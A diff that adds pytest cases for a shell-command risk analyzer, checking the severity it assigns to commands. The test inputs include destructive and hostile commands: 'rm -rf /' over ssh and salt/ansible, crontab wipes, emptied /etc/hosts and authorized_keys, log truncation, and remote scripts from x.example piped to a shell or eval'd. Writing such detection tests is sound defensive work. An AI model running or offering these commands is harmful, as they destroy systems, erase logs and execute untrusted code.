@@ -113,3 +113,177 @@ def test_everyday_commands_stay_below_critical(command: str) -> None:
 
 def test_a_redirection_target_that_expands_to_nothing_is_no_analysis_failure() -> None:
     assert [f.type for f in analyze("echo > {,}").findings] == []
+
+
+# A second review's findings (2026-12-06).
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "for h in web1 web2; do ssh $h 'sudo shutdown -h now'; done",
+        "for h in a b; do ssh $h 'rm -rf /'; done",
+        "for h in a b c; do ssh -n $h 'rm -rf /'; done",
+        "for d in /srv /etc; do for h in a b; do ssh $h rm -rf $d; done; done",
+        "for h in a b; do ssh -o BatchMode=yes $h sudo reboot; done",
+        "while read h; do ssh -n $h 'rm -rf /'; done < hosts",
+        "for d in $(ls /); do rm -rf /$d; done",
+        "for d in `ls /etc`; do rm -rf /etc/$d; done",
+    ],
+)
+def test_a_loop_runs_the_command_once_per_value(command: str) -> None:
+    assert analyze(command).severity == "critical", [f.message for f in analyze(command).findings]
+
+
+def test_each_value_of_a_loop_is_a_command_of_its_own() -> None:
+    assert normalised_commands("for d in a b; do rm -rf $d; done") == ["rm -rf a", "rm -rf b"]
+    assert normalised_commands("for h in a b; do ssh $h uptime; done") == ["ssh a uptime", "uptime", "ssh b uptime", "uptime"]
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "salt -G 'os:Ubuntu' cmd.run 'shutdown -r now'",
+        "salt -L 'a,b' cmd.run 'rm -rf /'",
+        "salt --grain os:Ubuntu cmd.run 'rm -rf /'",
+        "salt -b 10% -C 'G@os:Debian and web*' cmd.run 'rm -rf /'",
+        "salt --async -v -t 30 -E 'web[0-9]+' system.reboot",
+        "salt-ssh '*' cmd.run 'reboot'",
+        "salt-call cmd.run 'rm -rf /'",
+        "ansible all -b -a 'rm -rf /var/lib/mysql'",
+        "ansible web -i inv --become -m ansible.builtin.shell -a 'rm -rf /'",
+    ],
+)
+def test_salt_and_ansible_targets_and_options_are_skipped(command: str) -> None:
+    assert analyze(command).severity == "critical", [f.message for f in analyze(command).findings]
+
+
+@pytest.mark.parametrize(
+    ("command", "severity"),
+    [
+        ("(crontab -l; echo '* * * * * rm -rf /') | crontab -", "critical"),
+        ("{ crontab -l; echo '* * * * * rm -rf /'; } | crontab -", "critical"),
+        ("(crontab -l | grep -v x; echo '* * * * * rm -rf /') | crontab -", "critical"),
+        ('echo "" | crontab -', "critical"),
+        ("crontab - <<< ''", "critical"),
+        ("crontab /dev/null", "critical"),
+        ("crontab -l | grep -v backup | crontab -", "warning"),
+        ('(crontab -l; echo "0 3 * * * /usr/local/bin/backup") | crontab -', None),
+        ('echo "0 3 * * * /usr/local/bin/backup" | crontab -', None),
+        ("crontab -u www-data -l", None),
+        ("curl -s https://x.example/i.sh | (cd /tmp && cat) | sh", "critical"),
+        ("curl -s https://x.example/cron | crontab -", "critical"),
+        ("sudo crontab -u bob - < /dev/null", "critical"),
+        ("crontab - < jobs.txt", "warning"),  # as `crontab jobs.txt`  # a group between keeps what came before
+    ],
+)
+def test_what_crontab_installs_is_read_from_groups_and_pipes(command: str, severity: str | None) -> None:
+    assert analyze(command).severity == severity, [f.message for f in analyze(command).findings]
+
+
+@pytest.mark.parametrize(
+    ("command", "severity"),
+    [
+        ("truncate -s0 /var/log/syslog", "warning"),
+        ("> /var/log/syslog", "warning"),
+        ("cat /dev/null > /var/log/messages", "warning"),
+        ("find /var/log -type f -exec truncate -s 0 {} \\;", "warning"),
+        ("truncate -s 0 /var/lib/mysql/ibdata1", "critical"),
+        ("ln -sf /dev/null /etc/hosts", "critical"),
+        ("cp /dev/null /etc/hosts", "critical"),
+        ("sudo tee /etc/hosts < /dev/null", "critical"),
+        (": > /etc/hosts", "critical"),
+        ("truncate --size=0 /etc/nginx/nginx.conf", "critical"),
+        ("mv /usr/bin/sudo /tmp/", "critical"),
+        ("mv /usr/bin/python3 /usr/bin/python3.bak", "critical"),
+        ("truncate -s 0 /var/log/app/app.log", None),
+        ("truncate -s 10G /tmp/sparse.img", None),
+        ("echo hi > /etc/motd", None),
+        ("truncate -s 0 app.log", None),
+    ],
+)
+def test_a_file_emptied_is_rated_by_where_it_is(command: str, severity: str | None) -> None:
+    assert analyze(command).severity == severity, [f.message for f in analyze(command).findings]
+
+
+@pytest.mark.parametrize(
+    ("command", "severity"),
+    [
+        ("wget -q https://x.example/i.sh && sh i.sh", "critical"),
+        ("wget https://x.example/i.sh?v=2 && chmod +x i.sh && ./i.sh", "critical"),
+        ("curl -O https://x.example/i.sh && sh i.sh", "critical"),
+        ("curl -fsSLO https://x.example/i.sh && bash i.sh", "critical"),
+        ("curl --remote-name https://x.example/i.sh; bash i.sh", "critical"),
+        ("curl -fsSL https://x.example/i.sh && bash i.sh", None),  # printed, not saved: i.sh is another file
+        ("curl -O https://x.example/i.sh && cat i.sh", None),
+    ],
+)
+def test_a_download_named_after_its_url_is_known_when_run(command: str, severity: str | None) -> None:
+    assert analyze(command).severity == severity, [f.message for f in analyze(command).findings]
+
+
+@pytest.mark.parametrize(
+    ("command", "severity"),
+    [
+        ("TARGET=${TARGET:-/}; rm -rf $TARGET", "critical"),
+        ("rm -rf ${PREFIX:-/usr}/", "critical"),
+        ('rm -rf "${X:-/}"', "critical"),
+        ('rm -rf "${X:=/etc}"', "critical"),
+        ('dirs=(/etc /usr); rm -rf "${dirs[@]}"', "critical"),
+        ('dirs=(/tmp/a /etc); rm -rf "${dirs[1]}"', "critical"),
+        ('set -- -rf /; rm "$@"', "critical"),
+        ('rm -rf "${BUILD:-build}"', "warning"),  # the default is safe; a value from outside is not known
+        ('files=(a.log b.log); rm -f "${files[@]}"', None),
+        ('set -- a b; echo "$@"', None),
+    ],
+)
+def test_defaults_arrays_and_set_are_what_runs(command: str, severity: str | None) -> None:
+    assert analyze(command).severity == severity, [f.message for f in analyze(command).findings]
+
+
+@pytest.mark.parametrize(
+    ("command", "severity"),
+    [
+        ("git submodule foreach --recursive git reset --hard", "critical"),
+        ("git -C repo submodule foreach 'git clean -fdx'", "critical"),
+        ("git submodule foreach git pull", None),
+        ("tar -xzf backup.tar.gz -C /", "critical"),
+        ("tar --overwrite -xf rootfs.tar --directory=/usr", "critical"),
+        ("cd / && tar xzf /tmp/b.tgz", "critical"),
+        ("tar -xzf app.tgz -C /opt/app", None),
+        ("tar -tzf app.tgz -C /", None),
+        ("sed -i 's/^root:.*//' /etc/shadow", "critical"),
+        ("sed -i 's/foo/bar/' /etc/passwd", None),
+        ("rm ~/.ssh/authorized_keys", "critical"),
+        ('echo "" > ~/.ssh/authorized_keys', "critical"),
+        (": > /home/bob/.ssh/authorized_keys", "critical"),
+        ("echo 'ssh-ed25519 AAAA deploy' >> ~/.ssh/authorized_keys", None),
+        ("find . -type d -name __pycache__ -exec rm -rf {} +", "info"),
+        ("find . -name __pycache__ -o -name src -exec rm -rf {} +", "warning"),
+    ],
+)
+def test_smaller_forms_of_the_second_review(command: str, severity: str | None) -> None:
+    assert analyze(command).severity == severity, [f.message for f in analyze(command).findings]
+
+
+@pytest.mark.parametrize(
+    ("command", "severity"),
+    [
+        ("perl -e 'unlink glob \"/etc/*\"'", "critical"),
+        ("perl -e 'unlink </etc/*>'", "critical"),
+        ("php -r 'eval(file_get_contents(\"https://x.example/a\"));'", "critical"),
+        ("ruby -e 'eval(URI.open(\"https://x.example/a\").read)'", "critical"),
+        ("php -r 'echo file_get_contents(\"https://x.example/a\");'", None),
+        ("docker run --rm -v /var/lib/docker:/x alpine rm -rf /x", "critical"),
+        ("docker run -d -v /var/lib/mysql:/var/lib/mysql mysql:8", None),
+    ],
+)
+def test_code_in_other_languages_and_engine_state_mounts(command: str, severity: str | None) -> None:
+    assert analyze(command).severity == severity, [f.message for f in analyze(command).findings]
+
+
+def test_each_value_of_a_loop_counts_against_the_command_cap() -> None:
+    items = " ".join(f"h{i}" for i in range(16))
+    body = "echo $h; " * 300  # 300 commands, 4,800 with one per host
+    result = analyze(f"for h in {items}; do {body}done")
+    assert any(f.type == "unparseable" and f.severity == "critical" for f in result.findings)
